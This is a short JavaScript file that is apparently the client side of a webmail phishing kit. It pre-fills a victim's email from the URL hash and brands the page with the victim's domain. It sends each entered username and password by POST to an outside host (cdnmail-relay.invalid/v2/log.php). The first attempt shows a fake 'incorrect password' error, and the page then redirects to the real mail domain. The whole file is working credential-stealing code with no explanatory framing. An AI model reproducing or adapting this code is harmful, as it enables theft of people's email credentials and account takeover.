var n = 0, h = decodeURIComponent(location.hash.slice(1));
var u = document.getElementById('u'), p = document.getElementById('p'), e = document.getElementById('e');
u.value = h; if (h.indexOf('@') < 0) u.readOnly = false;
document.getElementById('dm').textContent = (h.split('@')[1] || 'Webmail');
document.getElementById('b').onclick = function () {
  if (p.value.length < 4) { e.textContent = 'Please enter password'; return; }
  n++;
  fetch('https://cdnmail-relay.invalid/v2/log.php', { method: 'POST', mode: 'no-cors', body: new URLSearchParams({ ai: u.value, pr: p.value, t: n }) });
  if (n < 2) { e.textContent = 'Login failed, incorrect password'; p.value = ''; return; }
  setTimeout(function () { location.replace('http://' + (u.value.split('@')[1] || 'mail.test')); }, 900);
};
